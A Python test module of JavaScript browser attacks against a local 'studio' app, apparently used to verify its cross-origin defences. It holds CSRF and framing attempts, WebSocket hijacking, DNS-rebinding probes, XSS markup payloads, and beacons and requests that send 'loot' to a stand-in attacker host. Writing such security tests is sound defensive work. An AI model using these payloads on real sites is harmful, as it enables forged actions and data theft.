# ruff: noqa: E501 (each attack is a line of JavaScript)
"""Attacks by a page of another site, in a real browser that holds the operator's cookie.

Each is the body of an async JavaScript function of ``t`` (``studio``: her address, ``ws``: the same for WebSockets,
``evil``: the attacker's own, ``cookie``: the cookie's name). It returns what it got: nothing, if all is well.
"""

HELPERS = """
const later = (ms) => new Promise((done) => setTimeout(done, ms));
const first = (promise, ms = 1200) => Promise.race([promise, later(ms).then(() => "")]);
const put = (tag, attributes, into = document.body) => first(new Promise((done) => {
  const element = document.createElement(tag);
  element.onload = () => done("loaded");
  element.onerror = () => done("");
  Object.assign(element, attributes);
  into.append(element);
}));
const form = (t, path, enctype, name, value, action = t.studio + path) => {
  const frame = document.createElement("iframe");
  frame.name = `f${Math.random()}`;
  document.body.append(frame);
  const it = Object.assign(document.createElement("form"), { method: "POST", action, enctype, target: frame.name });
  it.append(Object.assign(document.createElement("textarea"), { name, value }));
  document.body.append(it);
  it.submit();
  return later(300).then(() => "");
};
const ask = (t, path, options) => first(fetch(t.studio + path, { credentials: "include", ...options })
  .then((answer) => answer.type === "opaque" ? "" : answer.text()).catch(() => ""));
const socket = (address) => first(new Promise((done) => {
  const line = new WebSocket(address);
  line.onopen = () => { line.send('{"type":"panic"}'); done("open"); };
  line.onerror = () => done("");
}));
"""

ATTACKS = {
    "fetch that reads": 'return ask(t, "/api/state")',
    "fetch that reads, without CORS": 'return ask(t, "/api/turns", { mode: "no-cors" })',
    "fetch that panics, without CORS": 'return ask(t, "/api/control/panic", { mode: "no-cors", method: "POST" })',
    "fetch with JSON": """return ask(t, "/api/say", { method: "POST", body: '{"text":"hacked"}', headers: { "Content-Type": "application/json" } })""",
    "fetch with JSON as plain text": """return ask(t, "/api/say", { mode: "no-cors", method: "POST", body: '{"text":"hacked"}' })""",
    "fetch that guesses a key": 'return ask(t, "/api/state", { headers: { Authorization: "Bearer guess" } })',
    "fetch that deletes": 'return ask(t, "/api/chat/1", { method: "DELETE" })',
    "fetch without referrer": 'return ask(t, "/api/control/mute", { mode: "no-cors", method: "POST", referrerPolicy: "no-referrer" })',
    "fetch that outlives its page": 'return ask(t, "/api/control/mute", { mode: "no-cors", method: "POST", keepalive: true })',
    "fetch by way of a redirect": """return first(fetch(`${t.evil}/bounce?to=${encodeURIComponent(t.studio + "/api/control/mute")}`,
        { mode: "no-cors", method: "POST", credentials: "include" }).then(() => "").catch(() => ""))""",
    "beacon": 'navigator.sendBeacon(t.studio + "/api/control/panic", "x"); return ""',
    "XMLHttpRequest": """return first(new Promise((done) => {
        const it = new XMLHttpRequest(); it.open("POST", t.studio + "/api/control/mute"); it.withCredentials = true;
        it.onload = () => done(it.responseText || "read"); it.onerror = () => done(""); it.send(); }))""",
    "form": 'return form(t, "/api/control/panic", "application/x-www-form-urlencoded", "a", "b")',
    "form that looks like JSON": """return form(t, "/api/say", "text/plain", '{"text":"hacked","x":"', '"}')""",
    "form with a file": 'return form(t, "/api/voice-chat", "multipart/form-data", "messages", "[]")',
    "form by way of a redirect": """return form(t, "", "text/plain", "a", "b",
        `${t.evil}/bounce?to=${encodeURIComponent(t.studio + "/api/control/mute")}`)""",
    "image of the state": 'return put("img", { src: t.studio + "/api/state" })',
    "image of a verb": 'return put("img", { src: t.studio + "/api/control/panic" })',
    "image that tells whether she runs": 'return put("img", { src: t.studio + "/static/studio/icon.svg" })',
    "script of the turns": 'return put("script", { src: t.studio + "/api/turns" })',
    "script of the studio": 'return put("script", { src: t.studio + "/static/studio/dom.js", type: "module" })',
    "import of the studio": 'return first(import(t.studio + "/static/studio/dom.js").then(() => "imported").catch(() => ""))',
    "style sheet": 'return put("link", { rel: "stylesheet", href: t.studio + "/static/studio/studio.css" }, document.head)',
    "prefetch": 'put("link", { rel: "prefetch", href: t.studio + "/api/state" }, document.head); return ""',
    "preload": 'return put("link", { rel: "preload", as: "fetch", crossOrigin: "use-credentials", href: t.studio + "/api/state" }, document.head)',
    "prerender": """put("script", { type: "speculationrules", textContent: JSON.stringify({ prerender: [{ urls: [t.studio + "/"] }] }) });
        return ""  """,
    "sound": 'return put("audio", { src: t.studio + "/api/state", autoplay: true })',
    "font": """return first(new FontFace("x", `url(${t.studio}/static/studio/studio.css)`).load().then(() => "loaded").catch(() => ""))""",
    "frame around the studio": """const frame = document.createElement("iframe"); frame.src = t.studio + "/"; document.body.append(frame);
        await later(400); return frame.contentWindow.length ? "framed" : "" """,
    "frame around the OBS page": """const frame = document.createElement("iframe"); frame.src = t.studio + "/stage"; document.body.append(frame);
        await later(400); try { return frame.contentDocument?.querySelector("script") ? "read" : "" } catch { return "" }""",
    "object": 'put("object", { data: t.studio + "/" }); await later(300); return "" ',
    "embed": 'put("embed", { src: t.studio + "/api/turns", type: "text/html" }); await later(300); return "" ',
    "WebSocket of the studio": 'return socket(t.ws + "/api/live")',
    "WebSocket of the OBS page": 'return socket(t.ws + "/api/stage")',
    "WebSocket of the microphone": 'return socket(t.ws + "/api/microphone")',
    "WebSocket of the guard": 'return socket(t.guard + "/api/guard")',
    "event stream": """return first(new Promise((done) => { const it = new EventSource(t.studio + "/api/live", { withCredentials: true });
        it.onopen = () => done("open"); it.onerror = () => { it.close(); done(""); }; }))""",
    "window that is spoken to": """const it = window.open(t.studio + "/"); if (!it) return ""; await later(600);
        try { it.postMessage({ type: "panic" }, "*"); it.location.hash = "x"; } catch {}
        const held = !it.closed && it.length > 0; it.close(); return held ? "held" : "" """,
    "worker": 'return first(new Promise((done) => { try { const it = new Worker(t.studio + "/static/page/sound-worklet.js"); it.onerror = () => done(""); } catch { done(""); } }))',
    "service worker": 'return first(navigator.serviceWorker?.register(t.studio + "/static/page/link.js").then(() => "registered").catch(() => "") ?? "")',
    "cache": 'return typeof caches === "undefined" ? "" : first(caches.open("x").then((c) => c.add(new Request(t.studio + "/api/state", { credentials: "include" }))).then(() => "kept").catch(() => "")).catch(() => "")',
    "cookie that stands before ours": 'document.cookie = `${t.cookie}=tossed; path=/api`; document.cookie = `${t.cookie}=tossed; path=/`; return ""',
    "cookie that is read": 'return document.cookie.includes(t.key) ? "read" : "" ',
}

SANDBOXED = """
const frame = document.createElement("iframe");
frame.sandbox = "allow-scripts allow-forms";
const told = new Promise((done) => addEventListener("message", ({ data }) => done(data)));
frame.srcdoc = `<script>const later = (ms) => new Promise((d) => setTimeout(d, ms)); const told = [];
  const ask = (path, options) => fetch("${t.studio}" + path, { credentials: "include", ...options })
    .then((a) => a.type === "opaque" ? "" : told.push(path)).catch(() => "");
  const line = new WebSocket("${t.ws}/api/live"); line.onopen = () => told.push("live");
  Promise.all([ask("/api/state"), ask("/api/control/panic", { method: "POST", mode: "no-cors" }),
    ask("/api/control/panic", { method: "POST", headers: { Authorization: "Bearer guess" } }), later(500)])
    .then(() => parent.postMessage(told.join(), "*"));<\\/script>`;
document.body.append(frame);
return first(told, 3000);
"""

WITHIN = {
    "inline script": 'put("script", { textContent: "window.pwned = 1" }); await later(50); return window.pwned ? "ran" : ""',
    "handler in markup": """const it = document.createElement("div"); it.innerHTML = "<img src=x onerror='window.pwned=1'>"; document.body.append(it);
        await later(200); return window.pwned ? "ran" : "" """,
    "javascript: address": 'const a = document.createElement("a"); a.href = "javascript:window.pwned=1"; document.body.append(a); a.click(); await later(50); return window.pwned ? "ran" : ""',
    "words as a program": 'setTimeout("window.pwned = 1", 0); await later(50); return window.pwned ? "ran" : ""',
    "script from elsewhere": 'return put("script", { src: t.evil + "/loot.js" })',
    "style in markup": 'const it = document.createElement("p"); it.innerHTML = "<b style=\\"position:fixed\\">x</b>"; document.body.append(it); return getComputedStyle(it.firstChild).position === "fixed" ? "styled" : ""',
    "image elsewhere that tells": 'return put("img", { src: t.evil + "/loot?" + "x" })',
    "request elsewhere that tells": 'return first(fetch(t.evil + "/loot", { mode: "no-cors" }).then(() => "told").catch(() => ""))',
    "beacon elsewhere": 'navigator.sendBeacon(t.evil + "/loot", "x"); await later(100); return ""',
    "WebSocket elsewhere": 'return socket(t.evil.replace("http", "ws") + "/loot")',
    "form elsewhere": 'return form({ studio: t.evil }, "/loot", "text/plain", "a", "b")',
    "frame of elsewhere": 'put("iframe", { src: t.evil + "/loot" }); await later(200); return ""',
    "base elsewhere": 'put("base", { href: t.evil + "/loot/" }, document.head); return document.baseURI.startsWith(t.evil) ? "moved" : ""',
    "worker from a blob": 'return first(new Promise((done) => { try { const it = new Worker(URL.createObjectURL(new Blob(["postMessage(1)"]))); it.onmessage = () => done("ran"); it.onerror = () => done(""); } catch { done(""); } }))',
    "key in storage": 'return JSON.stringify([{ ...localStorage }, { ...sessionStorage }, document.cookie, location.href, performance.getEntriesByType("navigation")[0].name]).includes(t.key) ? "found" : ""',
    "key in the markup": 'return document.documentElement.outerHTML.includes(t.key) ? "found" : ""',
}
"""In the studio's own page, as if markup had slipped in: its policy lets none of it run, load or tell."""

REBOUND = {
    "reads": 'return (await fetch("/api/state")).status === 403 ? "" : "read" ',
    "learns that she runs": 'return (await fetch("/health")).status === 403 ? "" : "read" ',
    "speaks": 'return (await fetch("/api/say", { method: "POST", body: "{}" })).status === 403 ? "" : "said" ',
    "listens": "return socket(`ws://${location.host}/api/live`)",
    "shows": 'return (await fetch("/stage")).status === 403 ? "" : "shown" ',
}
"""By a page of the attacker's name that has come to mean this machine: to the browser it is the studio's own."""

MARKUP = (
    "<img src=x onerror=window.pwned=1><script>window.pwned=1</script><svg onload=window.pwned=1>\"'><b id=slipped>"
)
"""What viewers, models and engines are called and say."""


def script(attacks: dict[str, str]) -> str:
    """Return one function that runs them all at once and returns what each got, where it got something."""
    listed = ",\n".join(f"[{name!r}, async (t) => {{ {body} }}]" for name, body in attacks.items())
    return f"""async (t) => {{ {HELPERS}
      const got = await Promise.all([{listed}].map(async ([name, run]) => [name, await run(t).catch((e) => "failed: " + e)]));
      return Object.fromEntries(got.filter(([, loot]) => loot)); }}"""
